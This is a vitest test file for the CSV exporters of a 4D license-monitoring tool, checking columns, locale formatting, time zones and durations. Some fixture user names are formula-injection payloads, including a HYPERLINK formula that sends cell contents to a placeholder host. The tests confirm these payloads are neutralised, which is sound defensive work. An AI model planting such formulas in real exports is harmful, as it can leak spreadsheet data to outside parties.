import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import {
  historyColumns,
  holdingColumns,
  licenseColumns,
  licenseRowsFromSnapshot,
  usageColumns,
  usageRowsFromSnapshot,
} from '../../../main/core/export/exports.ts'
import type { HistoryRow, HoldingRow } from '../../../main/core/export/exports.ts'
import { writeCsvFile } from '../../../main/core/export/writer.ts'
import type { LicenseHeld, ProductUsage, Snapshot } from '../../../main/core/types/index.ts'
import { readCsv } from './read-csv.ts'

let dir: string
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'csv-exports-'))
})
afterEach(async () => {
  await rm(dir, { recursive: true, force: true })
})

const ZONE = 'America/Sao_Paulo' // UTC-3 all year since 2019: expected local times are easy to read

function license(fields: Partial<LicenseHeld> & Pick<LicenseHeld, 'token'>): LicenseHeld {
  return {
    server: 'Accounting',
    productId: 808464441,
    since: '2026-11-28T09:14:40.002Z',
    reason: 'remote connection',
    sessionType: 'remote',
    userName: 'maria',
    clientMachine: 'PC-FIN-07',
    ipAddress: '10.0.3.17',
    state: 'active',
    hostType: 'windows',
    ...fields,
  }
}

function product(fields: Partial<ProductUsage>): ProductUsage {
  return {
    productId: 808464441,
    productName: '4D Client',
    used: 0,
    limit: null,
    remaining: null,
    utilization: null,
    unlimited: false,
    limitSource: 'licenseInfo',
    status: 'ok',
    shares: [],
    flags: [],
    stale: false,
    licenses: [],
    ...fields,
  }
}

const SNAPSHOT: Snapshot = {
  generatedAt: '2026-11-28T09:15:02.311Z',
  demo: false,
  servers: [],
  machines: [
    {
      machine: 'srv-app-01',
      servers: ['Accounting', 'Stock'],
      products: [
        product({
          used: 2,
          limit: 3,
          remaining: 1,
          utilization: 2 / 3,
          status: 'critical',
          licenses: [
            license({ token: 5521 }),
            license({ token: 5522, server: 'Stock', userName: '=HYPERLINK("http://x?"&A1)', sessionType: null, since: null }),
          ],
        }),
        product({ productId: 808464945, productName: '4D Web', used: 0, unlimited: true, stale: true }),
      ],
    },
  ],
}

describe('export columns', () => {
  it('name no secret in any header', () => {
    const headers = [usageColumns(), licenseColumns(), historyColumns(), holdingColumns(0)].flat().map((column) => column.header)
    expect(headers.length).toBeGreaterThan(40)
    for (const header of headers) expect(header).not.toMatch(/token|password|secret|bearer|api.?key|credential/i)
  })
})

describe('usage export', () => {
  it('writes the latest usage per machine and product from the live snapshot', async () => {
    const out = join(dir, 'usage.csv')
    const rows = usageRowsFromSnapshot(SNAPSHOT)
    await writeCsvFile(out, usageColumns(), rows, { locale: 'pt-BR', timeZone: ZONE })
    const back = await readCsv(out, ';')
    expect(back.hasBom).toBe(true)
    expect(back.header).toEqual([
      'Time (UTC)',
      `Time (${ZONE})`,
      'Machine',
      'Product id',
      'Product',
      'Used',
      'Limit',
      'Remaining',
      'Utilization %',
      'Status',
      'Stale',
      'Stale since (UTC)',
      `Stale since (${ZONE})`,
    ])
    expect(back.rows).toEqual([
      [
        '2026-11-28T09:15:02Z',
        '2026-11-28 06:15:02',
        'srv-app-01',
        '808464441',
        '4D Client',
        '2',
        '3',
        '1',
        '66,7',
        'Critical',
        'no',
        '',
        '',
      ],
      ['2026-11-28T09:15:02Z', '2026-11-28 06:15:02', 'srv-app-01', '808464945', '4D Web', '0', '', '', '', 'OK', 'yes', '', ''],
    ])
  })
})

describe('licenses export', () => {
  it('writes one row per license held, session fields as columns, text neutralised', async () => {
    const out = join(dir, 'licenses.csv')
    await writeCsvFile(out, licenseColumns(), licenseRowsFromSnapshot(SNAPSHOT), { locale: 'en-US', timeZone: ZONE })
    const back = await readCsv(out, ',')
    expect(back.header).toEqual([
      'Time (UTC)',
      `Time (${ZONE})`,
      'Machine',
      'Server',
      'Product id',
      'Product',
      'Retain id',
      'User',
      'Session type',
      'Client machine',
      'IP address',
      'State',
      'Host type',
      'Held since (UTC)',
      `Held since (${ZONE})`,
    ])
    expect(back.rows).toEqual([
      [
        '2026-11-28T09:15:02Z',
        '2026-11-28 06:15:02',
        'srv-app-01',
        'Accounting',
        '808464441',
        '4D Client',
        '5521',
        'maria',
        'remote',
        'PC-FIN-07',
        '10.0.3.17',
        'active',
        'windows',
        '2026-11-28T09:14:40Z',
        '2026-11-28 06:14:40',
      ],
      [
        '2026-11-28T09:15:02Z',
        '2026-11-28 06:15:02',
        'srv-app-01',
        'Stock',
        '808464441',
        '4D Client',
        '5522',
        `'=HYPERLINK("http://x?"&A1)`,
        '',
        'PC-FIN-07',
        '10.0.3.17',
        'active',
        'windows',
        '',
        '',
      ],
    ])
  })
})

describe('history export', () => {
  it('writes min/avg/max and the peak with its time per period', async () => {
    const out = join(dir, 'history.csv')
    const rows: HistoryRow[] = [
      {
        periodStart: Date.UTC(2026, 10, 30, 8),
        machine: 'srv-app-01',
        productId: 808464441,
        productName: 'Licenças 4D',
        minUsed: 40,
        avgUsed: 45.125,
        maxUsed: 48,
        limit: 50,
        peakUsed: 48,
        peakAt: '2026-11-30T08:42:10Z',
        coverage: 0.875,
      },
      {
        periodStart: new Date(Date.UTC(2026, 10, 30, 9)),
        machine: 'srv-app-01',
        productId: 808464441,
        productName: 'Licenças 4D',
        minUsed: 0,
        avgUsed: 0,
        maxUsed: 0,
        limit: null,
        peakUsed: 0,
        peakAt: null,
        coverage: null,
      },
    ]
    await writeCsvFile(out, historyColumns(), rows, { locale: 'fr', timeZone: ZONE })
    const back = await readCsv(out, ';')
    expect(back.header).toEqual([
      'Period start (UTC)',
      `Period start (${ZONE})`,
      'Machine',
      'Product id',
      'Product',
      'Min used',
      'Avg used',
      'Max used',
      'Limit',
      'Peak used',
      'Peak time (UTC)',
      `Peak time (${ZONE})`,
      'Coverage %',
      'Stale',
    ])
    expect(back.rows).toEqual([
      [
        '2026-11-30T08:00:00Z',
        '2026-11-30 05:00:00',
        'srv-app-01',
        '808464441',
        'Licenças 4D',
        '40',
        '45,13',
        '48',
        '50',
        '48',
        '2026-11-30T08:42:10Z',
        '2026-11-30 05:42:10',
        '87,5',
        'yes',
      ],
      ['2026-11-30T09:00:00Z', '2026-11-30 06:00:00', 'srv-app-01', '808464441', 'Licenças 4D', '0', '0,00', '0', '', '0', '', '', '', ''],
    ])
  })
})

describe('holdings export', () => {
  it('writes who held which license from when to when, where "From" comes from, with duration and end reason', async () => {
    const out = join(dir, 'holdings.csv')
    const base = {
      machine: 'srv-app-01',
      server: 'Accounting',
      productId: 808464441,
      productName: '4D Client',
      token: 1,
      userName: 'maria',
      sessionType: 'remote',
      clientMachine: 'PC-FIN-07',
      ipAddress: '10.0.3.17',
    }
    const rows: HoldingRow[] = [
      { ...base, from: '2026-11-28T08:00:00Z', fromSource: 'retain-time', to: '2026-11-28T09:30:30Z', endReason: 'released' },
      { ...base, userName: '@SUM(1+1)', from: '2026-11-28T09:00:00Z', fromSource: 'first-poll', to: null, endReason: 'still-held' },
      { ...base, from: '2026-11-28T07:00:00Z', fromSource: 'retain-time', to: '2026-11-28T07:20:00Z', endReason: 'unknown' },
      { ...base, from: '2026-11-28T06:00:00Z', fromSource: 'retain-time', to: '2026-11-28T06:10:00Z', endReason: 'server-restarted' },
      { ...base, token: 2, from: '2026-11-28T06:00:00Z', to: '2026-11-28T06:05:00Z', endReason: 'replaced' },
    ]
    await writeCsvFile(out, holdingColumns('2026-11-28T10:00:00Z'), rows, { locale: 'en-US', delimiter: ';', timeZone: ZONE })
    const back = await readCsv(out, ';')
    expect(back.header).toEqual([
      'Machine',
      'Server',
      'Product id',
      'Product',
      'Retain id',
      'User',
      'Session type',
      'Client machine',
      'IP address',
      'From (UTC)',
      `From (${ZONE})`,
      'From given by',
      'To (UTC)',
      `To (${ZONE})`,
      'Duration (minutes)',
      'End reason',
    ])
    const tail = (row: string[]): string[] => row.slice(9)
    expect(back.rows.map(tail)).toEqual([
      ['2026-11-28T08:00:00Z', '2026-11-28 05:00:00', 'retain time', '2026-11-28T09:30:30Z', '2026-11-28 06:30:30', '90.5', 'released'],
      ['2026-11-28T09:00:00Z', '2026-11-28 06:00:00', 'first poll', '', '', '60.0', 'still held'],
      [
        '2026-11-28T07:00:00Z',
        '2026-11-28 04:00:00',
        'retain time',
        '2026-11-28T07:20:00Z',
        '2026-11-28 04:20:00',
        '20.0',
        'unknown (server unreachable)',
      ],
      [
        '2026-11-28T06:00:00Z',
        '2026-11-28 03:00:00',
        'retain time',
        '2026-11-28T06:10:00Z',
        '2026-11-28 03:10:00',
        '10.0',
        'server restarted',
      ],
      [
        '2026-11-28T06:00:00Z',
        '2026-11-28 03:00:00',
        '',
        '2026-11-28T06:05:00Z',
        '2026-11-28 03:05:00',
        '5.0',
        'replaced (token taken by another session)',
      ],
    ])
    expect(back.rows.map((row) => row[4])).toEqual(['1', '1', '1', '1', '2'])
    expect(back.rows[1]?.[5]).toBe("'@SUM(1+1)")
  })

  it('leaves the duration empty when the times cannot be read', async () => {
    const out = join(dir, 'holdings-bad.csv')
    const row: HoldingRow = {
      machine: 'm',
      server: 's',
      productId: 1,
      productName: 'p',
      userName: null,
      sessionType: null,
      clientMachine: null,
      ipAddress: null,
      from: 'yesterday',
      to: null,
      endReason: 'still-held',
    }
    await writeCsvFile(out, holdingColumns(Date.UTC(2026, 0, 1)), [row], { delimiter: ',', timeZone: 'UTC' })
    const back = await readCsv(out, ',')
    expect(back.header.slice(9, 11)).toEqual(['From (UTC)', 'From (local, UTC)'])
    expect(back.rows[0]?.slice(9)).toEqual(['yesterday', 'yesterday', '', '', '', '', 'still held'])
  })
})
